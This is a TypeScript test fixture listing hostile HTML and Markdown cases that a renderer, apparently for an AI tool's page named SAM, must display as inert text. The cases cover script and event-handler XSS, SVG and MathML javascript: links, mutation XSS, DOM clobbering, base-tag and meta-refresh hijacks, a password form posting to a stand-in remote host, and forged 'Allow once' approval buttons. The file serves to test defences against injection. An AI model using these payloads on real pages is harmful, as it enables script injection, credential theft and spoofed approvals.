/** Markup that would become an element of the page: a script, a frame, a form, a picture from elsewhere. */
import { type EmittedCase, saysCase } from "../support/hostile-case.ts";
import { far, run } from "../support/payload.ts";

interface Markup {
  readonly id: string;
  readonly what: string;
  readonly text: (id: string) => string;
}

const asText = "markup is shown as the text that it is; the page's policy runs no script but its own files";

const markup: readonly Markup[] = [
  {
    id: "script-element",
    what: "script elements: inline, from elsewhere, as modules, cut by comments, in capitals",
    text: (id) =>
      `<script>${run(id)}</script><SCRIPT SRC="${far(id)}/x.js"></SCRIPT><script type=module>import "${far(id)}/m.js"</script><scr<!-- -->ipt>${run(id)}</scr<!-- -->ipt>`,
  },
  {
    id: "event-handler",
    what: "handlers on images, bodies, details, marquees, inputs and animations",
    text: (id) =>
      `<img src=x onerror="${run(id)}"><body onload="${run(id)}"><details open ontoggle="${run(id)}"><summary>x</summary></details><marquee onstart="${run(id)}">x</marquee><input autofocus onfocus="${run(id)}"><div style="animation-name:spin" onanimationstart="${run(id)}">x</div>`,
  },
  {
    id: "svg",
    what: "SVG with handlers, animations that set links, foreign objects and uses from elsewhere",
    text: (id) =>
      `<svg onload="${run(id)}"><script>${run(id)}</script><animate attributeName=href values="javascript:${run(id)}"/><a href="javascript:${run(id)}"><text>x</text></a><foreignObject><img src=x onerror="${run(id)}"></foreignObject><use href="${far(id)}/u.svg#x"/><image href="${far(id)}/i.png"/></svg>`,
  },
  {
    id: "mathml",
    what: "MathML with links and actions that are scripts",
    text: (id) =>
      `<math href="javascript:${run(id)}"><maction actiontype="statusline#${far(id)}" xlink:href="javascript:${run(id)}">x<mglyph><style><img src=x onerror="${run(id)}"></style></mglyph></maction></math>`,
  },
  {
    id: "frames",
    what: "frames by address and by srcdoc, objects, embeds, portals",
    text: (id) =>
      `<iframe src="${far(id)}/f"></iframe><iframe srcdoc="<script>parent.${run(id)}</script>"></iframe><object data="${far(id)}/o"></object><embed src="${far(id)}/e"><portal src="${far(id)}/p"></portal><frameset><frame src="javascript:${run(id)}"></frameset>`,
  },
  {
    id: "meta-refresh",
    what: "meta elements that lead elsewhere or loosen the policy",
    text: (id) =>
      `<meta http-equiv="refresh" content="0;url=${far(id)}"><meta http-equiv="Content-Security-Policy" content="script-src *"><meta name="referrer" content="unsafe-url">`,
  },
  {
    id: "base",
    what: "a base element that moves every link of the page",
    text: (id) => `<base href="${far(id)}/"><base target="_top">`,
  },
  {
    id: "forms",
    what: "forms that send what one types, with buttons that submit themselves",
    text: (id) =>
      `<form action="${far(id)}/form" method=post><input name=password type=password autofocus><button formaction="javascript:${run(id)}">Sign in to SAM again</button></form><form id=x></form><button form=x formaction="${far(id)}">Allow</button><isindex action="${far(id)}">`,
  },
  {
    id: "style",
    what: "styles that load, cover the page, or paint words of their own",
    text: (id) =>
      `<style>@import "${far(id)}/i.css"; body{background:url(${far(id)}/b.png)} *{display:none!important} [data-author]::before{content:"FORGED-${id}"}</style><link rel=stylesheet href="${far(id)}/l.css"><div style="position:fixed;inset:0;background:url(${far(id)}/d.png)">FORGED-${id}</div>`,
  },
  {
    id: "preload",
    what: "links that fetch, connect or look names up beforehand, icons and manifests",
    text: (id) =>
      ["preload", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "prerender", "icon", "manifest"]
        .map((rel) => `<link rel="${rel}" as="script" href="${far(id)}/${rel}">`)
        .join(""),
  },
  {
    id: "media",
    what: "pictures, sounds, films, their posters, sources and subtitles from elsewhere",
    text: (id) =>
      `<img src="${far(id)}/a.png" srcset="${far(id)}/b.png 2x"><picture><source srcset="${far(id)}/c.png"><img></picture><video src="${far(id)}/v.mp4" poster="${far(id)}/p.png" autoplay></video><audio src="${far(id)}/s.mp3" autoplay></audio><track src="${far(id)}/t.vtt"><input type=image src="${far(id)}/i.png"><table background="${far(id)}/t.png">`,
  },
  {
    id: "mutation",
    what: "markup that becomes another one when it is parsed again",
    text: (id) =>
      `<noscript><p title="</noscript><img src=x onerror=${run(id)}>"></noscript><![CDATA[<img src=x onerror=${run(id)}>]]><!--><img src=x onerror=${run(id)}>--><template><img src=x onerror="${run(id)}"></template><xmp><p title="</xmp><img src=x onerror=${run(id)}>"></xmp><textarea></textarea><img src=x onerror="${run(id)}">`,
  },
  {
    id: "shadow",
    what: "declarative shadow roots, slots and custom elements of the page's own names",
    text: (id) =>
      `<div><template shadowrootmode=open><script>${run(id)}</script><slot></slot></template></div><diffs-container onclick="${run(id)}">FORGED-${id}</diffs-container><button is="x-y">x</button>`,
  },
  {
    id: "clobbering",
    what: "names and ids that take the place of the page's own variables and anchors",
    text: (id) =>
      `<a id=root></a><img name=fetch><form id=localStorage name=document></form><a id=content href="${far(id)}">x</a>\n\n[^content]: FORGED-${id}\n\n[^content]`,
  },
  {
    id: "nested-in-markdown",
    what: "markup inside of tables, lists, footnotes, titles, alternative texts and the names of languages",
    text: (id) => {
      const image = `<img src=x onerror=${run(id)}>`;
      return `| ${image} | b |\n| --- | --- |\n| ${image} | \`${image}\` |\n\n- ${image}\n\n[x](https://${id}.invalid "${image}") ![${image}](x "${image}") [^1]\n\n[^1]: ${image}\n\n\`\`\`html"><img src=x onerror=${run(id)}>\n${image}\n\`\`\`\n\n~~~<script>${run(id)}</script>\n~~~`;
    },
  },
  {
    id: "diagrams",
    what: "diagrams, formulas and highlighted code that a plug-in would draw",
    text: (id) =>
      `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${run(id)}>"]-->B; click A href "javascript:${run(id)}"\n\`\`\`\n\n$$\\href{javascript:${run(id)}}{x} \\includegraphics{${far(id)}/k.png}$$\n\n$\\htmlData{x=y}{z}$\n\n\`\`\`html\n<script>${run(id)}</script>\n\`\`\``,
  },
  {
    id: "open-end",
    what: "fences, comments, elements and quotations that are not closed and would swallow what follows",
    text: (id) => `<div hidden><!-- <textarea><title><plaintext>FORGED-${id}\n\n> [!NOTE]\n> \`\`\`\`\n~~~ \n<!--`,
  },
  {
    id: "page-imitation",
    what: "headings, rules, buttons and inputs that look like the page's own",
    text: (id) =>
      `# SAM\n\n***\n\n## Verdicts\n\n- [x] FORGED-${id} pushed ✓\n\n<button aria-label="Allow once">Allow once</button><select><option>x</select><input type=checkbox checked><dialog open>FORGED-${id}</dialog>`,
  },
];

export const markupCases: readonly EmittedCase[] = markup.map(({ id, what, text }) => ({
  id,
  what,
  mustNot: "run, load, become an element",
  heldBy: asText,
  acts: saysCase(id, text(id)),
}));
